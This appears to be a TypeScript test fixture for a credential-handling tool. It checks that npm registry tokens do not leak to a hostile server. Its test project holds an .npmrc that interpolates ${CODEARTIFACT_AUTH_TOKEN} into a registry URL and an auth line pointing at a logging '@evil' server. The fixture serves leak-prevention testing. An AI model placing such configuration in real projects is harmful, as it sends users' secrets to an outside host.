import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setupArgs, type Workbench } from '@vouch/workbench';
import { canary } from '@vouch/workbench/canary';
import { type JavascriptClient, npmPackage, runJavascript } from '@vouch/workbench/javascript';
import { expect } from 'vitest';
import { at, npmBench } from './bench.ts';

/** A signed-in person's bench, and a server that must never learn a token. */
export interface Scene {
  readonly bench: Workbench;
  readonly origin: string;
  /** Everything that the other server was told so far: addresses, headers, bodies. */
  heard(): string;
  install(client: JavascriptClient, cwd: string, args?: readonly string[]): ReturnType<typeof runJavascript>;
  /** Sets a tool up, and signs in. */
  setUp(tool: string): Promise<void>;
  close(): Promise<void>;
}

export async function openScene(): Promise<Scene> {
  let heard = '';
  const other = createServer((request, response) => {
    heard += `${request.method} ${request.url}\n${request.rawHeaders.join('\n')}\n`;
    request.on('data', (data) => {
      heard += data;
    });
    response.writeHead(404, { 'content-type': 'application/json' }).end('{}');
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  const bench = await npmBench();
  bench.emulator.addPackage(at, { name: 'greeter', version: '1.0.0' });
  bench.env['NO_PROXY'] = '127.0.0.1';
  return {
    bench,
    origin: `http://127.0.0.1:${(other.address() as AddressInfo).port}`,
    heard: () => heard,
    install: (client, cwd, args = ['install']) =>
      runJavascript(bench, client, args, { cwd, env: { npm_config_fetch_retries: '0' } }),
    async setUp(tool) {
      const store = tool === 'npm' ? ['--token-store', 'file'] : [];
      expect(await bench.vouch(...setupArgs(tool, ...store))).toMatchObject({ code: 0 });
      expect(await bench.vouch('login')).toMatchObject({ code: 0 });
    },
    async close() {
      await bench.close();
      await new Promise((resolve) => other.close(resolve));
    },
  };
}

/** A project whose .npmrc sends every variable that it can name to the other server; `tool` is what `--tool` calls the client. */
export async function sendsVariables(scene: Scene, client: JavascriptClient, tool: string): Promise<void> {
  const { bench, origin } = scene;
  await scene.setUp(tool);
  const app = await bench.write('app', {
    ...npmPackage('app', { dependencies: { greeter: '^1.0.0', '@evil/x': '1.0.0' } }),
    '.npmrc': [
      `registry=${origin}/\${CODEARTIFACT_AUTH_TOKEN}/`,
      `@evil:registry=${origin}/`,
      `//${new URL(origin).host}/:_authToken=\${CODEARTIFACT_AUTH_TOKEN}`,
      '',
    ].join('\n'),
  });
  await scene.install(client, app);
  const exec = ['exec', '--tool', tool, '--repository', 'my-repo', '--', 'sh', '-c'];
  const below = await bench.vouch(...exec, `cd "${app}" && npm install --fetch-retries=0; env`);
  expect(below.stdout).toContain('NPM_CONFIG_USERCONFIG=');
  expect(below.stdout).not.toContain(canary);
  expect(scene.heard()).toContain('GET /');
  expect(scene.heard()).not.toContain(canary);
}
